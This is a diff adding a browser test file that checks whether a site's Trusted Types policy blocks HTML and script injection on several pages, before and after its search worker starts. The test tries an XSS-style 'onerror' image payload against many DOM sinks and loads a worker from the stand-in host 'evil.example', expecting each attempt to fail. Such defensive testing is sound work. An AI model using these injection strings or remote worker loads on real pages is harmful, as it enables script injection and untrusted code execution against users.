@@ -1,0 +1,57 @@
+/** The page's policy in a browser that has Trusted Types: texts become neither HTML nor script, but by the site's own two ways. */
+import { awakenApp, expect, test } from './support/journey.ts';
+
+/** What an attacker would do with a text, each in its own way; gives what the browser said to each. */
+function attempts(): string[] {
+  const text = '<img src=x onerror="document.title=`taken`">';
+  const element = document.createElement('div');
+  const tries: (() => unknown)[] = [
+    () => Reflect.set(element, 'innerHTML', text),
+    () => Reflect.set(element, 'outerHTML', text),
+    () => document.body.insertAdjacentHTML('beforeend', text),
+    () => document.write(text),
+    () => new DOMParser().parseFromString(text, 'text/html'),
+    () => document.createRange().createContextualFragment(text),
+    () => Reflect.set(document.createElement('iframe'), 'srcdoc', text),
+    () => Reflect.set(document.createElement('script'), 'text', 'document.title="taken"'),
+    () => Reflect.set(document.createElement('script'), 'src', '/assets/a.js'),
+    () => new Worker('/assets/a.js'),
+    () => new Worker('/pagefind/0/../../assets/pagefind-worker.js'),
+    () => new Worker('https://evil.example/pagefind/0/pagefind-worker.js'),
+    () =>
+      Reflect.apply(Reflect.get(globalThis.trustedTypes ?? {}, 'createPolicy'), globalThis.trustedTypes, ['own', {}]),
+    () =>
+      Reflect.apply(Reflect.get(globalThis.trustedTypes ?? {}, 'createPolicy'), globalThis.trustedTypes, ['html', {}]),
+  ];
+  return tries.map((attempt) => {
+    try {
+      attempt();
+      return 'done';
+    } catch (error) {
+      return error instanceof Error ? error.name : String(error);
+    }
+  });
+}
+
+test.describe('what the policy refuses', () => {
+  test.use({ allowedMessages: /Trusted|trusted/ });
+
+  for (const path of ['/', '/contact', '/nowhere']) {
+    test(`no text becomes HTML or script on ${path}, before and after the search has started its worker`, async ({
+      page,
+    }) => {
+      test.info().annotations.push({ type: 'path', description: path });
+      await page.goto(path);
+      await awakenApp(page);
+      const before = await page.evaluate(attempts);
+      expect(before).toEqual(before.map(() => 'TypeError'));
+      const working = page.waitForEvent('worker');
+      await page.keyboard.press('/');
+      await page.getByRole('searchbox').or(page.getByRole('combobox')).first().fill('property');
+      expect(new URL((await working).url()).pathname).toBe('/pagefind/0/pagefind-worker.js');
+      const after = await page.evaluate(attempts);
+      expect(after).toEqual(after.map(() => 'TypeError'));
+      expect(await page.title()).not.toBe('taken');
+    });
+  }
+});
